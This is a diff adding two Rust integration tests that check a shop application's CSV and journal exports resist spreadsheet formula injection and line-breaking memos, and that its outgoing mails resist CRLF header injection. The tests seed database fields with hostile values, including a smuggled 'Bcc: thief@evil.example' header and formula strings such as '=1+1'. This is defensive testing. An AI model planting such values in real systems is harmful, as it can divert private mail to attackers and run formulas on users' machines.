@@ -4,8 +4,9 @@
 //! The pages are those of the route table, the fields those of the database, the filters and forms
 //! those of the pages themselves: a new one is in the test by being there.
 
+use crate::events_shop::Shop;
 use crate::page_parts::{Element, Form, Page};
-use crate::support::{Answer, Client, PASSWORD, TestServer, on_postgres, try_execute};
+use crate::support::{Answer, Client, PASSWORD, TestServer, number, on_postgres, try_execute};
 use axum::http::StatusCode;
 use guildhall::accounts::Role;
 use guildhall::seed::{Seed, seed};
@@ -498,4 +499,81 @@ async fn signing_in_and_registering_lead_to_no_other_site() {
     ];
     let answer = server.visitor().post("/login", &good).await;
     assert_eq!(answer.header("location"), "/orders?a=b#c");
+}
+
+#[tokio::test]
+async fn a_file_has_one_entry_for_each_transfer_whatever_is_written_in_it() {
+    let (server, [_, _, (_, mut staff), _]) = spoiled_company().await;
+    let lines = "UPDATE transfers SET memo = '=1+1;\n2026-01-01 * x\n    bank  CNY 1.00\r\n\n; a', \
+                 reference = '\t@SUM(A1)' || reference";
+    try_execute(&server.app, lines).await.expect("memos");
+    let transfers = number(&server.app, "SELECT COUNT(*) FROM transfers").await;
+    assert!(transfers > 5);
+    let count = |found: usize| i64::try_from(found).expect("few");
+
+    let file = staff.api("/ledger/journal.csv").await.body;
+    let mut reader = csv::Reader::from_reader(file.as_bytes());
+    let rows: Vec<_> = reader.records().collect::<Result<_, _>>().expect("CSV");
+    assert_eq!(count(rows.len()), transfers);
+    for field in rows.iter().flatten() {
+        let sign = field.trim_start().chars().next();
+        assert!(!matches!(sign, Some('=' | '+' | '@' | '-')), "{field:?}");
+    }
+
+    let journal = staff.api("/ledger/export.journal").await.body;
+    let (mut heads, mut postings) = (0, 0);
+    for line in journal.lines().skip(1) {
+        match line {
+            "" => {}
+            line if line.starts_with("    ") => postings += 1,
+            line if line.starts_with("20") => heads += 1,
+            line => panic!("a line of its own: {line}"),
+        }
+    }
+    assert_eq!((heads, postings), (transfers, 2 * transfers));
+}
+
+#[tokio::test]
+async fn a_mail_has_the_headers_it_was_given_and_no_more() {
+    const KNOWN: [&str; 9] = [
+        "auto-submitted",
+        "content-transfer-encoding",
+        "content-type",
+        "date",
+        "from",
+        "message-id",
+        "mime-version",
+        "subject",
+        "to",
+    ];
+    let mut shop = Shop::open().await;
+    let app = shop.server.app.clone();
+    let injected = "\r\nBcc: thief@evil.example\r\n\r\n<x-hostile>";
+    let names = [
+        format!("UPDATE users SET name = name || '{injected}'"),
+        format!("UPDATE products SET name = name || '{injected}'"),
+    ];
+    for sql in &names {
+        try_execute(&app, sql).await.expect("a name");
+    }
+    let order = shop.order("wallet").await;
+    let parcel = json!({ "carrier": "SF Express", "tracking": "1\r\nBcc: thief@evil.example" });
+    shop.step(&order, "pack", json!({})).await;
+    // Whatever is wrong with it is said, or mended; it is written into no header.
+    let path = format!("/api/v1/orders/{order}/ship");
+    let method = axum::http::Method::POST;
+    shop.staff.send_json(method, &path, parcel).await;
+    shop.deliver().await;
+    let mails = shop.mails();
+    assert!(mails.len() >= 2, "{mails:?}");
+    for name in mails {
+        let (headers, _) = shop.mail(&name);
+        for line in headers
+            .split("\r\n")
+            .filter(|line| !line.starts_with([' ', '\t']))
+        {
+            let (name, _) = line.split_once(':').expect("a header");
+            assert!(KNOWN.contains(&&*name.to_lowercase()), "{headers}");
+        }
+    }
 }
